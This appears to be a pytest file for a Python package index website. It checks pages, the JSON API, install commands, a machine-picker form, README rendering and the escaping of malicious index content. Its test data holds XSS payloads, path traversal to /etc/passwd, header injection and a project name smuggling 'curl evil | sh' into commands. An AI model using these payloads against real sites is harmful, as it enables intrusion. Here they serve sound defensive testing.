"""HTML pages: contents, and attacks through the contents."""

from __future__ import annotations

import html
import io
import json
import re
import shlex
from collections.abc import Sequence
from pathlib import Path
from unittest.mock import Mock
from urllib.parse import quote
from xml.etree import ElementTree as ET

import pytest
from packaging.utils import canonicalize_name
from server.site.documents import Document
from server.site.indexes import DOCUMENT, MemoryIndex, fast_fft, many_variants

from wheelfit.errors import StorageUnavailable
from wheelfit.operations.hosts import host_text
from wheelfit.resolution.preset_hosts import host_of_preset
from wheelfit.server.folder import FolderIndex
from wheelfit.server.messages import Request, Response
from wheelfit.server.site.facts import is_web_address
from wheelfit.server.site.rendering import visible
from wheelfit.server.site.site import Site
from wheelfit.server.store.records import RecentUpload
from wheelfit.sources.page import File
from wheelfit.sources.repository import Content, url_of
from wheelfit.testing.wheels import build_wheel, release_document
from wheelfit_runtime.errors import Unreachable
from wheelfit_runtime.platforms.presets import compose

pytest.importorskip("jinja2", reason="needs the extra `server`")


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> MemoryIndex:
    """Return an index with a project with variants."""
    return fast_fft(tmp_path_factory.mktemp("wheels"))


@pytest.fixture(scope="module")
def site(index: MemoryIndex) -> Site:
    """Return the pages of the index."""
    return Site(index, public_url="https://wheels.example.org/")


def ask(site: Site, target: str, method: str = "GET", **more: object) -> Response:
    """Return the answer to a request."""
    path, _, query = target.partition("?")
    return site(Request(method, path, query=query, **more))  # type: ignore[arg-type]


def body(answer: Response) -> bytes:
    """Return the bytes of a response."""
    return b"".join(answer.body)


def read(site: Site, target: str, status: int = 200) -> Document:
    """Return a page, which is sound whatever it says."""
    answer = ask(site, target)
    assert answer.status == status
    document = Document(body(answer))
    assert document.faults == []
    return document


HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "gnp\u202egpj.exe",
    "a\r\nSet-Cookie: x=1",
    "x" * 20_000,
    "javascript:alert(1)",
    "../../etc/passwd",
    "{{ 7 * 7 }}",
    "lone \udcff surrogate",
    "\u0000\u0008zero",
]


def feed_of(answer: Response) -> tuple[str, list[tuple[str, str]]]:
    """Return the time of a feed, and the titles and links of its entries."""
    feed = ET.fromstring(body(answer))
    space = {"atom": "http://www.w3.org/2005/Atom"}
    entries = []
    for entry in feed.iterfind("atom:entry", space):
        link = entry.find("atom:link", space)
        assert link is not None
        entries.append((entry.findtext("atom:title", "", space), link.attrib["href"]))
    return feed.findtext("atom:updated", "", space), entries


class TestPages:
    """Contents of each page."""

    def test_projects(self, site: Site) -> None:
        """The front page lists every project with its latest release and variants."""
        page = read(site, "/")
        summary = "Fast Fourier transforms on processors and GPUs"
        assert f"fast-fft {summary} 2.1 3 releases 4 variants 2026-10-02" in page.text
        assert "plainly 1.0 1 release" in page.text
        assert "./project/fast-fft/" in page.links

    def test_slow_details(self, index: MemoryIndex) -> None:
        """Details that take too long are left out; names are listed."""
        page = read(Site(index, list_timeout=0), "/")
        assert "fast-fft plainly" in page.text

    def test_search(self, site: Site) -> None:
        """A search finds parts of names in any spelling."""
        assert "1 project for “FAST_f”" in read(site, "/?q=FAST_f").text
        assert "plainly" not in read(site, "/?q=fft").text
        nothing = read(site, "/?q=%3Cb%3E")
        assert "No project name contains this text" in nothing.text
        assert "b" not in nothing.tags

    def test_order_of_search_results(self) -> None:
        """The exact name is first, then names that start with the text."""
        index = MemoryIndex()
        for name in ("a-torch", "torchvision", "torch"):
            index.add(name)
        links = read(Site(index), "/?q=torch").links
        found = [link.split("/")[2] for link in links if "project/" in link]
        assert found == ["torch", "torchvision", "a-torch"]

    def test_project(self, site: Site) -> None:
        """A project lists its releases, newest first, with yanks."""
        page = read(site, "/project/fast-fft/")
        assert page.text.index("3.0rc1") < page.text.index("2.1 newest") < page.text.index("2.0 ")
        assert "3.0rc1 pre-release" in page.text
        assert "2.0 yanked" in page.text
        assert "Fast Fourier transforms on processors and GPUs" in page.text
        assert "https://example.org/docs" in page.links

    def test_release(self, site: Site) -> None:
        """A release has a table of its variants with their requirements."""
        page = read(site, "/project/fast-fft/2.1/")
        assert "needs CUDA driver >= 12.8 and a GPU of compute capability 8.0 or 9.0" in page.text
        assert "nvidia :: sm_arch :: 80_real, 90_real" in page.text
        assert "cp312, cp313 on Linux x86_64" in page.text
        assert ">=3.11" in page.text
        assert (
            "../../../files/fast_fft-2.1-cp312-cp312-manylinux_2_28_x86_64-cu128.whl" in page.links
        )

    def test_hashes_and_attestations(self, index: MemoryIndex, site: Site) -> None:
        """Each file has its hash, and attested files a link to the provenance."""
        page = read(site, "/project/fast-fft/2.1/")
        for file in index.pages["fast-fft"]:
            if "-2.1-" in file.filename and file.filename.endswith(".whl"):
                assert f"sha256:{file.hashes['sha256']}" in page.text
        assert "2 of 10 wheels are attested" in page.text
        proof = "fast_fft-2.1-cp312-cp312-manylinux_2_28_x86_64.whl.provenance"
        assert f"../../../files/{proof}" in page.links

    def test_which_machines(self, site: Site) -> None:
        """Each kind of machine has its label, with a link to the reasons."""
        page = read(site, "/project/fast-fft/2.1/")
        assert "NVIDIA GPUs, CUDA 12.8" in page.text
        assert "which/?preset=cuda-12.8-sm90" in page.links
        row = page.text.index("cuda-12.8-sm90 NVIDIA driver for CUDA 12.8")
        assert "cu128" in page.text[row : row + 200]
        windows = page.text.index("windows-x86_64 any")
        assert "nothing" in page.text[windows : windows + 60]

    def test_yanked_release(self, site: Site) -> None:
        """A yanked release has the reason."""
        page = read(site, "/project/fast-fft/2.0/")
        assert "This release is yanked." in page.text
        assert "wrong on odd sizes" in page.text
        assert "This is not the newest release: that is 2.1" in page.text

    @pytest.mark.parametrize(
        "filename",
        ["some-2.0-cp39-cp39-win32.whl", "some-2.0.tar.gz"],
        ids=["for other machines", "source"],
    )
    def test_newest(self, tmp_path: Path, filename: str) -> None:
        """A yanked release is not the latest, whatever its files."""
        index = MemoryIndex()
        index.add_wheel(build_wheel(tmp_path, "some", "1.0"))
        index.add("some", File(filename, url_of(filename), yanked="broken"))
        text = read(Site(index), "/project/some/").text
        assert "some==1.0" in text
        assert "2.0 yanked" in text
        assert "Every release is yanked" not in text

    def test_only_yanked_releases(self, tmp_path: Path) -> None:
        """A project with only yanked releases has no install command."""
        index = MemoryIndex()
        index.add_wheel(build_wheel(tmp_path, "some", "1.0"), yanked="")
        text = read(Site(index), "/project/some/").text
        assert "Every release is yanked" in text
        assert "pip install" not in text

    @pytest.mark.parametrize("path", ["/project/fast-ftf/", "/project/fast-fft/9/", "/Fast_FFT"])
    def test_missing_project(self, site: Site, path: str) -> None:
        """A missing page suggests similar projects, and has the search form."""
        page = read(site, path, 404)
        assert any(link.endswith("/project/fast-fft/") for link in page.links)
        assert "form" in page.tags

    def test_feed(self, site: Site) -> None:
        """The feed of a project has its releases with a time, except yanked ones."""
        assert "feed.xml" in read(site, "/project/fast-fft/").links
        answer = ask(site, "/project/fast-fft/feed.xml")
        assert answer.headers["content-type"] == "application/atom+xml; charset=utf-8"
        updated, entries = feed_of(answer)
        assert entries == [("fast-fft 2.1", "../../project/fast-fft/2.1/")]
        assert updated == "2026-10-02T08:00:00+00:00"

    def test_source_releases_are_in_the_feed(self) -> None:
        """The feed has releases without wheels too."""
        index = MemoryIndex()
        uploaded = "2026-10-02T08:00:00Z"
        index.add("some", File("some-1.0.tar.gz", url_of("some"), upload_time=uploaded))
        entries = feed_of(ask(Site(index), "/project/some/feed.xml"))[1]
        assert entries == [("some 1.0", "../../project/some/1.0/")]

    @pytest.mark.parametrize("count", [0, 1, 10_000])
    def test_recent_uploads(self, count: int) -> None:
        """The front page and its feed have the recent uploads of projects that are listed.

        However many there are, only pages of projects in the list are read.
        """
        index = MemoryIndex()
        for number in range(count):
            name = f"p{number:04}-1.0-py3-none-any.whl"
            index.add(f"p{number:04}", File(name, url_of(name), size=1))
        asked: list[str] = []
        index.noted = asked.append
        uploads = [
            RecentUpload(canonicalize_name(f"p{number:04}"), "1.0", f"2026-10-{day}T08:00:00Z")
            for day, number in enumerate(range(-1, min(count, 12)), 10)
        ]
        site = Site(index, recent=lambda: uploads[::-1])
        front = read(site, "/")
        assert ("Recent uploads" in front.text) is bool(count)
        assert "p-001" not in front.text  # listed nowhere
        updated, entries = feed_of(ask(site, "/feed.xml"))
        assert len(entries) == min(count, 12)
        assert len(asked) <= 30
        if count:
            newest = uploads[-1]
            link = f"./project/{newest.project}/1.0/"
            assert entries[0] == (f"{newest.project} 1.0", link)
            assert (updated, link in front.links) == (newest.time, True)
        assert "Recent uploads" not in read(site, "/?q=p").text

    def test_icon(self, site: Site) -> None:
        """There is an icon."""
        answer = ask(site, "/favicon.svg")
        assert answer.headers["content-type"].startswith("image/svg+xml")

    def test_plain_release(self, site: Site) -> None:
        """A release without variants says so, and lists its machines."""
        page = read(site, "/project/plainly/1.0/")
        assert "This release has no variants" in page.text
        assert "no hash in the index" not in page.text

    def test_redirects_of_spellings(self, site: Site) -> None:
        """Other spellings of a project or version are redirected by relative links."""
        assert ask(site, "/project/Fast_FFT/").headers["location"] == "../fast-fft/"
        assert ask(site, "/project/fast-fft").headers["location"] == "fast-fft/"
        assert ask(site, "/project/fast-fft/2.1.0/").headers["location"] == "../2.1/"
        assert ask(site, "/project/Fast_FFT/2.1/").headers["location"] == "../../fast-fft/2.1/"

    @pytest.mark.parametrize(
        "path",
        ["/nothing", "/project/nothing/", "/project/fast-fft/9/", "/project/fast-fft/x/", "//"],
    )
    def test_missing(self, site: Site, path: str) -> None:
        """A missing page is a 404 page."""
        assert "Page not found" in read(site, path, 404).text

    def test_folder_index(self, tmp_path: Path) -> None:
        """An index without change stamps has pages too."""
        build_wheel(tmp_path, "some", "1.0", label="v3", document=DOCUMENT)
        site = Site(FolderIndex(tmp_path))
        assert "needs x86-64-v3" in read(site, "/project/some/1.0/").text
        build_wheel(tmp_path, "some", "1.1")
        assert "1.1 newest" in read(site, "/project/some/").text


class TestJson:
    """The JSON API of PyPI."""

    def test_json_project(self, site: Site) -> None:
        """A project has the latest release that is not yanked, and the files of all."""
        answer = ask(site, "/pypi/fast-fft/json")
        assert answer.headers["content-type"] == "application/json"
        found = json.loads(body(answer))
        assert (found["info"]["name"], found["info"]["version"]) == ("fast-fft", "2.1")
        assert found["info"]["requires_dist"] == ["numpy>=2"]
        assert found["info"]["yanked"] is False
        assert found["releases"].keys() == {"2.0", "2.1", "3.0rc1"}
        assert found["releases"]["2.0"][0]["yanked_reason"] == "wrong on odd sizes"
        kinds = {file["packagetype"] for file in found["urls"]}
        assert kinds == {"bdist_wheel", "variants"}
        file = found["urls"][0]
        assert file["url"] == f"https://wheels.example.org/files/{file['filename']}"
        assert len(file["digests"]["sha256"]) == 64

    def test_json_release(self, index: MemoryIndex) -> None:
        """A release has relative links if the public URL is unknown."""
        found = json.loads(body(ask(Site(index), "/pypi/Fast_FFT/2.0.0/json")))
        assert found["info"]["version"] == "2.0"
        assert found["info"]["yanked_reason"] == "wrong on odd sizes"
        assert "releases" not in found
        assert found["urls"][0]["url"] == f"../../../files/{found['urls'][0]['filename']}"

    @pytest.mark.parametrize("path", ["nothing", "fast-fft/9", "fast-fft/x"])
    def test_json_missing(self, site: Site, path: str) -> None:
        """A missing project is a 404 in JSON."""
        answer = ask(site, f"/pypi/{path}/json")
        assert answer.status == 404
        assert "message" in json.loads(body(answer))

    def test_json_damaged_wheel(self, tmp_path: Path) -> None:
        """A damaged wheel has no metadata."""
        (tmp_path / "some-1.0-py3-none-any.whl").write_bytes(b"no archive")
        found = json.loads(body(ask(Site(FolderIndex(tmp_path)), "/pypi/some/json")))
        assert found["info"]["summary"] is None
        assert found["urls"][0]["filename"] == "some-1.0-py3-none-any.whl"

    @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
    def test_json_hostile_values(self, text: str) -> None:
        """Any listed value is text in JSON, with nosniff."""
        index = MemoryIndex()
        index.add("some", File("some-1.0.tar.gz", text, {"sha256": text}, yanked=text))
        answer = ask(Site(index), "/pypi/some/json")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert json.loads(body(answer))["info"]["yanked"] is True


class TestCommands:
    """Commands to copy."""

    def test_public_url(self, site: Site) -> None:
        """With a public URL commands can be copied."""
        page = read(site, "/project/fast-fft/2.1/")
        url = "https://wheels.example.org/simple/"
        assert f"wheelfit install --index-url {url} fast-fft==2.1" in page.text
        assert f"wheelfit run --index-url {url} -- pip install fast-fft==2.1" in page.text
        assert f"wheelfit run --index-url {url} -- uv pip install fast-fft==2.1" in page.text

    def test_no_public_url(self, index: MemoryIndex) -> None:
        """Without a public URL headers are not trusted, and commands have a placeholder."""
        site = Site(index)
        headers = {"host": "evil.example", "x-forwarded-host": "evil.example"}
        answer = ask(site, "/project/fast-fft/2.1/", headers=headers, origin="http://evil.example")
        page = Document(body(answer))
        assert "evil.example" not in page.text
        assert "--index-url INDEX_URL/simple/ fast-fft==2.1" in page.text
        assert "../../../simple/" in page.links

    def test_checked_host(self, index: MemoryIndex) -> None:
        """A verified host name is used in commands."""
        site = Site(index, trusts_host=True)
        headers = {"host": "wheels.example.org:8000"}
        page = Document(body(ask(site, "/project/plainly/1.0/", headers=headers)))
        url = "http://wheels.example.org:8000/simple/"
        assert f"pip install --index-url {url} plainly==1.0" in page.text
        page = Document(body(ask(site, "/", headers=headers, origin="https://127.0.0.1:8000")))
        assert "global.index-url https://wheels.example.org:8000/simple/" in page.text

    def test_plain_project(self, site: Site) -> None:
        """Without variants pip's command is first."""
        text = read(site, "/project/plainly/").text
        pip = "pip install --index-url https://wheels.example.org/simple/ plainly==1.0"
        assert text.index(pip) < text.index("wheelfit install")
        assert "wheelfit run" not in text

    def test_uploads(self, index: MemoryIndex) -> None:
        """The front page explains uploads, if they are enabled."""
        site = Site(index, public_url="https://wheels.example.org", takes_uploads=True)
        page = read(site, "/")
        assert (
            "twine upload --repository-url https://wheels.example.org/legacy/ dist/*" in page.text
        )
        assert "twine" not in read(Site(index), "/").text

    def test_quoting_of_names(self) -> None:
        """Names in commands are quoted."""
        index = MemoryIndex()
        name = "x; curl evil | sh #"
        index.add(name, File("x-1.0-py3-none-any.whl", url_of("x")))
        content = body(ask(Site(index, public_url="https://e.org"), f"/project/{quote(name)}/"))
        assert b"x; curl" in content
        for line in re.findall(rb"<code>((?:pip|uv|wheelfit) .*)</code>", content):
            assert shlex.split(html.unescape(line.decode()))[-1].startswith("x; curl")


def form(content: bytes, filename: str = "machine.toml", python: str = "") -> Request:
    """Return a form request with a host file."""
    parts = (
        b'--b\r\nContent-Disposition: form-data; name="content"; filename="%s"\r\n\r\n%s\r\n'
        b'--b\r\nContent-Disposition: form-data; name="python"\r\n\r\n%s\r\n--b--\r\n'
    ) % (filename.encode(), content, python.encode())
    return Request(
        "POST",
        "/project/fast-fft/2.1/which/",
        {"content-type": "multipart/form-data; boundary=b"},
        body=io.BytesIO(parts),
    )


WHICH = "/project/fast-fft/2.1/which/"


class TestWhich:
    """The form that selects a label for a machine."""

    @pytest.mark.parametrize(
        ("preset", "label", "reason"),
        [
            ("cuda-12.8-sm90", "cu128", "compatible; cu128 is preferred"),
            ("cuda-12.6-sm90", "cu126", "needs CUDA driver >= 12.8"),
            ("cpu-x86_64-v3", "v3", "none was found on preset cpu-x86_64-v3"),
            ("linux-x86_64", "null", "needs x86-64-v3, the CPU of preset linux-x86_64 is v1"),
        ],
    )
    def test_preset(self, site: Site, preset: str, label: str, reason: str) -> None:
        """F-90: the label of a preset is shown, with the reasons for the others."""
        page = read(site, f"{WHICH}?preset={preset}")
        assert f"{preset} gets {label}" in page.text
        assert reason in page.text

    @pytest.mark.parametrize(
        ("query", "name", "label"),
        [
            ("device=cuda-sm90&version=cuda-12.8", "cuda-12.8-sm90", "cu128"),
            ("device=cuda-sm90", "cuda-12.8-sm90", "cu128"),
            ("device=cuda-sm90&version=cuda-12.6", "cuda-12.6-sm90", "cu126"),
            ("version=cuda-12.6", "cuda-12.6", "cu126"),
            ("processor=cpu-x86_64-v3&device=&version=", "cpu-x86_64-v3", "v3"),
            (
                "system=linux-x86_64&processor=cpu-x86_64-v4&device=cuda-sm80&python=3.12",
                "cuda-12.8-sm80+cpu-x86_64-v4+linux-x86_64",
                "cu128",
            ),
        ],
    )
    def test_buttons(self, site: Site, query: str, name: str, label: str) -> None:
        """A machine can be composed by buttons, which keep their state."""
        content = body(ask(site, f"{WHICH}?{query}"))
        assert f"{name} gets {label}" in Document(content).text
        field, _, value = query.partition("&")[0].partition("=")
        assert f'name="{field}" value="{value}" checked'.encode() in content

    @pytest.mark.parametrize(
        ("query", "says"),
        [
            ("system=macos-arm64&device=cuda-sm90", "no machine has cuda-12.8-sm90 and macos"),
            ("system=linux-aarch64&processor=cpu-x86_64-v3", "no machine has cpu-x86_64-v3"),
            ("device=<script>", "<script>"),
            ("device=x-&version=-", "x-"),
        ],
    )
    def test_contradictory_buttons(self, site: Site, query: str, says: str) -> None:
        """A contradictory machine is an error, and the buttons remain."""
        page = Document(body(ask(site, f"{WHICH}?{query}")))
        assert says in page.text
        assert "System" in page.text
        assert "script" not in page.tags

    def test_buttons_on_the_page_of_a_project(self, site: Site) -> None:
        """The buttons of a project are for its latest release."""
        content = body(ask(site, "/project/fast-fft/")).decode()
        assert '<form class="picker" action="2.1/which/" method="get">' in content
        page = read(site, "/project/fast-fft/2.1/which/?device=cuda-sm90&version=cuda-12.8")
        assert "cuda-12.8-sm90 gets cu128" in page.text

    def test_no_compatible_wheel(self, site: Site) -> None:
        """Without a compatible wheel every wheel has its reason."""
        page = read(site, f"{WHICH}?preset=windows-x86_64")
        assert "windows-x86_64 gets nothing" in page.text
        assert "built for Linux x86_64, this is Windows x86_64" in page.text

    def test_python(self, site: Site) -> None:
        """The default Python is the newest with a wheel."""
        assert "cp312-cp312" in read(site, f"{WHICH}?preset=linux-x86_64&python=3.12").text
        page = read(site, f"{WHICH}?preset=linux-x86_64")
        assert "Python 3.13 is assumed, since none was named" in page.text
        page = read(site, f"{WHICH}?preset=linux-x86_64&python=3.10")
        assert "gets nothing" in page.text

    def test_host_file(self, site: Site) -> None:
        """An uploaded host file gives the same label as its machine."""
        file, _ = host_of_preset(compose(["cuda-12.8-sm90"]))
        answer = site(form(host_text(file).encode(), python="3.12"))
        page = Document(body(answer))
        assert (answer.status, page.faults) == (200, [])
        assert "machine.toml gets cu128" in page.text
        assert "fast_fft-2.1-cp312-cp312-manylinux_2_28_x86_64-cu128.whl" in page.text

    @pytest.mark.parametrize(
        ("content", "says"),
        [
            (b"", "no host file came with the form"),
            (b"<script>alert(1)</script>", "the host file is not TOML"),
            (b"\x00\xff", "the host file is not TOML"),
            (b"[metadata]\nversion = '0.1'\n[[provider]]\nnamespace = '<b>'\n", "<b>"),
            (b"x" * (256 << 10) + b"x", "has more than 262144 bytes"),
        ],
    )
    def test_invalid_host_files(self, site: Site, content: bytes, says: str) -> None:
        """An invalid host file is an error without markup of the file."""
        answer = site(form(content))
        page = Document(body(answer))
        assert (answer.status, page.faults) == (400, [])
        assert says in page.text
        assert "b" not in page.tags

    def test_hostile_file_name(self, site: Site) -> None:
        """The name of an uploaded file is shown as text, without folders."""
        answer = site(form(b"x", filename="../../<img src=x onerror=alert(1)>"))
        page = Document(body(answer))
        assert page.faults == []
        assert "img" not in page.tags
        assert "../../<img" not in page.text

    def test_invalid_forms(self, site: Site) -> None:
        """Other content types and truncated or endless bodies are refused."""
        request = Request("POST", WHICH, {"content-type": "text/plain"}, body=io.BytesIO(b"x"))
        assert site(request).status == 400
        endless = EndlessBody()
        headers = {"content-type": "multipart/form-data; boundary=b"}
        assert site(Request("POST", WHICH, headers, body=endless)).status == 400
        assert endless.given < 4 << 20

    def test_concurrent_forms(self, site: Site) -> None:
        """Only a few forms are read at once; others get 503."""
        statuses: list[int] = []

        def ask() -> int:
            depth.append(1)
            return site(Request("POST", WHICH, headers, body=Nested())).status

        class Nested(io.BytesIO):
            """A body that does not come before another form was sent."""

            def read(self, size: int | None = -1, /) -> bytes:  # noqa: ARG002 - of the interface
                if len(depth) < 5:
                    statuses.append(ask())
                return b""

        depth: list[int] = []
        headers = {"content-type": "multipart/form-data; boundary=b"}
        assert ask() == 400
        assert statuses == [503, 400, 400, 400]
        assert site(form(b"x")).status == 400

    @pytest.mark.parametrize(
        ("query", "says"),
        [
            ("preset=", "no preset was given"),
            ("preset=cuda-99", "'cuda-99' is not a preset"),
            ("preset=%3Cscript%3E", "'<script>' is not a preset"),
            ("preset=cuda-12.8-sm90&python=2.7", "'2.7' is not a known version of Python"),
            ("preset=" + "x" * 300, "a preset has at most 200 characters"),
            ("preset=cuda-12.8-sm90%2Bmacos-arm64", "no machine has cuda-12.8-sm90 and macos"),
            ("preset=/etc/passwd", "is not a preset"),
        ],
    )
    def test_invalid_presets(self, site: Site, query: str, says: str) -> None:
        """An invalid preset is an error, and no file of the server is read."""
        page = read(site, f"{WHICH}?{query}", 400)
        assert says in page.text
        assert page.text.count("<script>") == page.text.count("'<script>'")

    def test_long_queries(self, site: Site) -> None:
        """Long queries and those with many fields are refused."""
        assert "too long" in read(site, f"{WHICH}?preset={'x' * 5000}", 400).text
        fields = "&".join("q=1" for _ in range(30))
        assert "too many fields" in read(site, f"/?{fields}", 400).text

    def test_empty_form(self, site: Site) -> None:
        """Without a query the page has the form; afterwards it keeps the input."""
        assert "Choose a machine" in read(site, WHICH).text
        content = body(ask(site, f"{WHICH}?preset=cuda-12.8-sm90&python=3.12"))
        assert b'value="cuda-12.8-sm90"' in content
        assert b"<option selected>3.12</option>" in content


class EndlessBody:
    """A body without an end."""

    def __init__(self) -> None:
        self.given = 0

    def read(self, size: int = 1 << 16, /) -> bytes:
        """Return as many as are wanted."""
        if not self.given:
            start = b'--b\r\nContent-Disposition: form-data; name="content"; filename="x"\r\n\r\n'
            self.given += len(start)
            return start
        self.given += size
        return b"x" * size


READMES = [
    "[x](javascript:alert(1)) [y](JaVaScript:alert(1)) [z]( data:text/html,<script>)",
    '<a href="javascript:alert(1)">x</a><svg onload=alert(1)><math><mi//xlink:href="data:x,y">',
    '<div id="main" onclick="alert(1)" style="position:fixed">x</div><base href="//e.org/">',
    "<form action=https://e.org><input name=token><button>Log in</button></form>",
    '![alt "> <script>alert(1)</script>](https://e.org/x.png "t")',
    ".. raw:: html\n\n   <script>alert(1)</script>\n\n.. include:: /etc/passwd\n",
    "`x <javascript:alert(1)>`_\n\n.. image:: javascript:alert(1)\n   :target: data:text/html,x\n",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<table><td><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
]


MARKDOWN = """\
# Fast

See [the docs](https://docs.example/x), [below](#use) and [a file](docs/x.md).
[![build](https://e.example/badge.svg)](https://ci.example/)

## Use

```python
import fast
```

| a | b |
|---|---|
| 1 | 2 |
"""
RST = """\
Fast
====

See `the docs <https://docs.example/x>`_.

Use
---

.. code:: python

   import fast
"""


def shown(
    tmp_path: Path, kind: str, text: str, headers: Sequence[tuple[str, str]] = ()
) -> tuple[bytes, Document]:
    """Return the page of a release with a description of a content type."""
    headers = [*headers, *([("Description-Content-Type", kind)] if kind else [])]
    index = MemoryIndex()
    index.add_wheel(build_wheel(tmp_path, "some", "1.0", metadata_extra=headers, description=text))
    content = body(ask(Site(index), "/project/some/1.0/"))
    return content, Document(content)


class TestReadme:
    """Markdown and reStructuredText descriptions."""

    @pytest.mark.parametrize(
        ("kind", "text"),
        [("text/markdown; charset=UTF-8; variant=GFM", MARKDOWN), ("text/x-rst", RST), ("", RST)],
    )
    def test_rendered(self, tmp_path: Path, kind: str, text: str) -> None:
        """Headings, links and code are rendered, below the headings of the page."""
        content, page = shown(tmp_path, kind, text)
        assert re.search(rb"<h3[^>]*>Fast<", content)
        assert re.search(rb"<h4[^>]*>Use<", content)
        assert "https://docs.example/x" in page.links
        assert page.tags.count("h1") == 1
        assert "import fast" in page.text
        assert "===" not in page.text
        assert "##" not in page.text

    def test_links_and_images(self, tmp_path: Path) -> None:
        """Anchors work, relative links are removed, and images become their text."""
        content, page = shown(tmp_path, "text/markdown", MARKDOWN)
        (anchor,) = [link for link in page.links if link.endswith("use")]
        assert f'id="{anchor.removeprefix("#")}"'.encode() in content
        assert "docs/x.md" not in page.links
        assert "build" in page.text
        assert b"<table>" in content

    @pytest.mark.parametrize("kind", ["text/plain", "text/markdown; variant=Other", "text/html"])
    def test_other_types(self, tmp_path: Path, kind: str) -> None:
        """Other content types are shown as text."""
        _, page = shown(tmp_path, kind, MARKDOWN)
        assert "# Fast" in page.text

    @pytest.mark.parametrize("text", [">" * 60_000, "<div>" * 12_000, "T\n=\n\n" * 20_000])
    def test_costly_descriptions(self, tmp_path: Path, text: str) -> None:
        """Descriptions that take seconds to render are shown as text."""
        content, _ = shown(tmp_path, "text/markdown", text)
        assert b'<pre class="prose"' in content


class TestMaliciousContent:
    """Malicious contents of an index."""

    @pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
    def test_names(self, name: str) -> None:
        """Project names are escaped, and bidirectional controls are visible."""
        index = MemoryIndex()
        index.add(name, File("some-1.0-py3-none-any.whl", url_of("some")))
        page = read(Site(index), "/")
        assert not {"script", "img"} & set(page.tags)
        assert "\u202e" not in page.text
        assert "49" not in page.text

    @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
    def test_listed_values(self, text: str) -> None:
        """File names, URLs, Python versions, reasons and hashes are escaped."""
        index = MemoryIndex()
        index.add(
            "some",
            File(
                "some-1.0-py3-none-any.whl",
                text,
                {"sha256": text, text: "x"},
                requires_python=text,
                yanked=text,
                upload_time=text,
                provenance=text,
            ),
            File(text, text),
            File(f"{text}.whl", text),
        )
        site = Site(index)
        for path in ("/", "/project/some/", "/project/some/1.0/", "/project/some/1.0/which/"):
            page = read(site, path)
            assert not {"script", "img"} & set(page.tags)
            assert "\u202e" not in page.text

    @pytest.mark.parametrize("text", [one for one in HOSTILE if "\udcff" not in one], ids=len)
    def test_metadata(self, tmp_path: Path, text: str) -> None:
        """Summary, author, licence, links, dependencies and description are escaped."""
        line = text.replace("\r\n", " ").replace("\x00", "")[:5000]
        headers = [("Summary", line), ("Author", line), ("License", line), ("Home-page", line)]
        headers += [("Project-URL", f"{line.replace(',', ' ')}, {line}"), ("Requires-Dist", line)]
        index = MemoryIndex()
        path = build_wheel(tmp_path, "some", "1.0", metadata_extra=headers, description=text)
        index.add_wheel(path)
        for path_ in ("/project/some/", "/project/some/1.0/"):
            page = read(Site(index), path_)
            assert not {"script", "img"} & set(page.tags)
            assert "\u202e" not in page.text

    @pytest.mark.parametrize("kind", ["text/markdown", "text/x-rst", 'x;y="z'])
    @pytest.mark.parametrize("text", READMES + HOSTILE[:9], ids=range(len(READMES) + 9))
    def test_readme(self, tmp_path: Path, text: str, kind: str) -> None:
        """A README runs no script, loads nothing, and links only to web servers."""
        text = text.replace("\r\n", "\n").replace("\x00", "")
        content, page = shown(tmp_path, kind, text)
        assert not {"script", "img", "iframe", "svg", "object", "embed", "base"} & set(page.tags)
        outside = [link for link in page.links if "//" in link or ":" in link]
        assert all(map(is_web_address, outside))
        assert not [fault for fault in page.faults if "inline" in fault]
        assert b"<form" not in content.partition(b"Description and metadata")[2]
        assert b'id="main"' not in content.partition(b"Description and metadata")[2]
        assert "\u202e" not in page.text

    def test_links(self, tmp_path: Path) -> None:
        """Only web addresses become links, without a referrer."""
        urls = {
            "good": "https://example.org/x",
            "script": "javascript:alert(1)",
            "data": "data:text/html,x",
            "login": "https://bank.example@evil.example/",
            "file": "file:///etc/passwd",
            "odd": "https://exa mple.org/",
            "broken": "https://[::1",
        }
        headers = [("Project-URL", f"{name}, {url}") for name, url in urls.items()]
        content, page = shown(tmp_path, "", "", headers)
        assert {url for url in urls.values() if url in page.links} == {urls["good"]}
        assert b'rel="nofollow noopener noreferrer"' in content
        assert "script: javascript:alert(1) (not a web address)" in page.text

    @pytest.mark.parametrize(
        "url", ["HTTPS://x.example", "http://x", "https://x.example/?q=<b>", "https://ü.example/"]
    )
    def test_web_addresses(self, url: str) -> None:
        """Usual addresses are links."""
        assert is_web_address(url)

    def test_long_metadata(self, tmp_path: Path) -> None:
        """Long metadata is truncated."""
        long = [f"other; python_version in '{'9' * 100_000}'"] * 100
        build_wheel(tmp_path, "bad", "1.0", requires=long)
        text = read(Site(FolderIndex(tmp_path)), "/project/bad/1.0/").text
        assert "other; python_version in" in text
        assert len(text) < 1_000_000

    def test_nested_metadata(self, tmp_path: Path) -> None:
        """METADATA with thousands of nested messages is unreadable, and nothing else fails."""
        index = MemoryIndex()
        file = index.add_wheel(build_wheel(tmp_path, "some", "1.0"))
        from wheelfit.sources.repository import content_of

        nested = content_of(b"Content-Type: message/rfc822\n\n" * 5000)
        index.contents[f"{file.filename}.metadata"] = nested
        assert ("METADATA of the wheel cannot be read") in read(
            Site(index), "/project/some/1.0/"
        ).text

    def test_headers_of_redirects(self, site: Site) -> None:
        """Line breaks in a path do not get into headers."""
        answer = ask(site, "/project/A%0d%0aSet-Cookie:x/")
        assert all(value.isprintable() for value in answer.headers.values())

    def test_invisible_characters(self) -> None:
        """Invisible and bidirectional characters are shown by their code point."""
        assert visible("a\u202eb\u200bc\n") == "a⟨U+202E⟩b⟨U+200B⟩c⟨U+000A⟩"
        assert (
            visible("Grüße, 你好, \N{NO-BREAK SPACE}שלום") == "Grüße, 你好, \N{NO-BREAK SPACE}שלום"
        )


OTHER = release_document(
    {"v4": {"x86_64": {"level": ["v4"]}}}, providers={"x86_64": {"requires": ["some-provider"]}}
)


class TestFaults:
    """Faults of an index, which are shown on the pages."""

    @pytest.mark.parametrize(
        ("document", "says"),
        [
